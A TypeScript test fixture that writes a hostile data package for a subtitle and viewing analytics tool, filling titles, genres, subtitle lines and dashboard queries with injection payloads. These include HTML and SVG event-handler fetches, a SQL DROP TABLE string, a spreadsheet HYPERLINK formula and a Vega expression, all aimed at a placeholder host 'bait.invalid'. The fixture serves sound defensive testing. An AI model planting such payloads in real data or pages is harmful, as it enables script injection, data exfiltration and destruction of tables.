import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/** An address that no machine has; a request to it is what the data is trying to get. */
export const bait = 'https://bait.invalid';

/** Values that would act if anything took them for HTML, SQL, a link, a formula or a Vega expression. */
export const hostileValues = {
  title: `<img src="${bait}/a.png" onerror="fetch('${bait}/b')">`,
  otherTitle: `'; DROP TABLE core.consumption; --`,
  genre: `=HYPERLINK("${bait}/c";"x")`,
  otherGenre: `datum['x'] || {signal: "warn('${bait}')"}`,
  line: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${bait}/d')"><image href="${bait}/e.png"/></svg>`,
  otherLine: `<a href="${bait}/f">click</a> url(${bait}/g) @import "${bait}/h"`,
  citation: `${bait}/guide#reading-speed`,
  /** No line of text can be broken within it, unless the style sheet says so. */
  longWord: 'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichenverordnung',
} as const;

const titles = 30;
const linesPerTitle = 40;

/** Writes a small valid package whose every text is hostile, with enough titles and lines for each chart to show. */
export function writeHostilePackage(folder: string): void {
  mkdirSync(folder, { recursive: true });
  const tables = hostileTables();
  for (const [name, rows] of Object.entries(tables))
    writeFileSync(path.join(folder, `${name}.csv`), csv(rows));
  const manifest = {
    name: 'hostile',
    title: `${hostileValues.title} ${hostileValues.longWord}`,
    subtext: { schema_version: 1, exported_on: '2026-10-26', as_of: '2026-10-25', default_guide: 'house' },
    resources: Object.keys(tables).map((name) => ({ name, path: `${name}.csv`, format: 'csv' })),
  };
  writeFileSync(path.join(folder, 'datapackage.json'), JSON.stringify(manifest));
}

type Row = Readonly<Record<string, string | number | boolean | null>>;

function hostileTables(): Readonly<Record<string, readonly Row[]>> {
  const numbers = Array.from({ length: titles }, (_, i) => i);
  return {
    titles: numbers.map((i) => ({
      title_id: `t${i}`,
      name: `${i % 2 === 0 ? hostileValues.title : hostileValues.otherTitle} ${hostileValues.longWord}`,
      content_type: 'film',
      genre: i % 3 === 0 ? hostileValues.genre : hostileValues.otherGenre,
      audience: 'adult',
      runtime_ms: 600_000,
    })),
    title_original_languages: numbers.map((i) => ({ title_id: `t${i}`, language: 'en', is_primary: true })),
    languages: ['en', 'es'].map((tag) => ({
      language: tag,
      name: hostileValues.title,
      language_group: tag,
      script: 'Latn',
    })),
    assets: numbers.map((i) => ({
      asset_id: `a${i}`,
      title_id: `t${i}`,
      language: 'es',
      asset_type: 'subtitle',
      workflow: 'partner',
    })),
    asset_versions: numbers.map((i) => ({
      version_id: `v${i}`,
      asset_id: `a${i}`,
      version: 1,
      delivered_on: '2026-01-05',
      reason: hostileValues.line,
    })),
    availability: numbers.flatMap((i) =>
      ['subtitle', 'dub'].map((type) => ({
        title_id: `t${i}`,
        country: 'ES',
        language: 'es',
        asset_type: type,
        live_from: '2026-01-05',
        live_to: null,
      })),
    ),
    viewing: numbers.flatMap((i) => [viewingRow(i * 2, `t${i}`, 'es'), viewingRow(i * 2 + 1, `t${i}`, null)]),
    timed_text_events: numbers.flatMap((i) =>
      Array.from({ length: linesPerTitle }, (_, n) => lineRow(`v${i}`, n)),
    ),
    engagement_segments: [
      {
        segment_id: 's',
        window_start: '2026-10-05',
        window_end: '2026-10-25',
        market: hostileValues.line,
        profile_match: 'unknown',
        audio_context: 'unknown',
        subtitles_on: true,
      },
    ],
    line_engagement: numbers.flatMap((i) =>
      Array.from({ length: linesPerTitle }, (_, n) => ({
        version_id: `v${i}`,
        ordinal: n + 1,
        segment_id: 's',
        exposures: 1000,
        rewinds: 2 + ((i + n) % 5),
        pauses: 3,
        exits: 1,
        text_offs: 1,
        audio_switches: 0,
      })),
    ),
    style_limits: [
      {
        guide: 'house',
        scope: 'translation',
        language: 'es',
        audience: 'adult',
        asset_type: 'subtitle',
        valid_from: '2020-01-06',
        max_cps: 17,
        count_mode: 'grapheme',
        citation: hostileValues.citation,
      },
    ],
    dashboards: ['d1', 'd2', 'd3'].map((id, i) => ({
      dashboard_id: id,
      name: `${[hostileValues.genre, hostileValues.title, hostileValues.otherLine][i] ?? ''} ${hostileValues.longWord}`,
      kind: 'dashboard',
      domain: hostileValues.otherGenre,
      owner_team: hostileValues.otherTitle,
      last_viewed_on: '2026-10-20',
      views_90d: 90,
      views_365d: 300,
    })),
    dashboard_queries: [
      ['d1', blockOf(hostileValues.line)],
      ['d2', blockOf(hostileValues.otherLine)],
      // It would keep a parser busy for years.
      ['d3', `SELECT ${'INTERVAL '.repeat(60)}`],
    ].map(([dashboard = '', sql = ''], i) => ({ query_id: `q${i}`, dashboard_id: dashboard, sql })),
    dashboard_values: [
      {
        value_id: 'w1',
        dashboard_id: 'd1',
        metric_label: `${hostileValues.title} ${hostileValues.longWord}`,
        value: 1,
      },
    ],
  };
}

/** A query of a dashboard, with a text in a constant and in a comment; two of them contradict each other. */
function blockOf(text: string): string {
  const constant = `'${text.replaceAll("'", "''")}'`;
  return `-- ${text}\nSELECT CASE WHEN audio_type = 'dub' THEN ${constant} WHEN text_type IN ('sdh', 'x') THEN 'sub' END AS mode FROM viewing`;
}

function viewingRow(id: number, title: string, text: string | null): Row {
  return {
    view_row_id: id + 1,
    title_id: title,
    country: 'ES',
    week_start: '2026-10-05',
    profile_language: 'es',
    audio_language: 'en',
    audio_type: 'original',
    text_language: text,
    text_type: text === null ? 'off' : 'subtitle',
    selection: 'explicit',
    views: 100,
    completers: 60,
    view_hours: 12.5,
  };
}

function lineRow(version: string, n: number): Row {
  const start = n * 8000;
  return {
    version_id: version,
    ordinal: n + 1,
    event_type: 'dialogue',
    start_ms: start,
    end_ms: start + 3000 + (n % 7) * 600,
    zone: 'body',
    text: n % 2 === 0 ? hostileValues.line : hostileValues.otherLine,
  };
}

function csv(rows: readonly Row[]): string {
  const names = Object.keys(rows[0] ?? {});
  const field = (value: Row[string] | undefined) =>
    value === null || value === undefined ? '' : `"${String(value).replaceAll('"', '""')}"`;
  return [names.join(','), ...rows.map((row) => names.map((name) => field(row[name])).join(','))].join(
    '\r\n',
  );
}
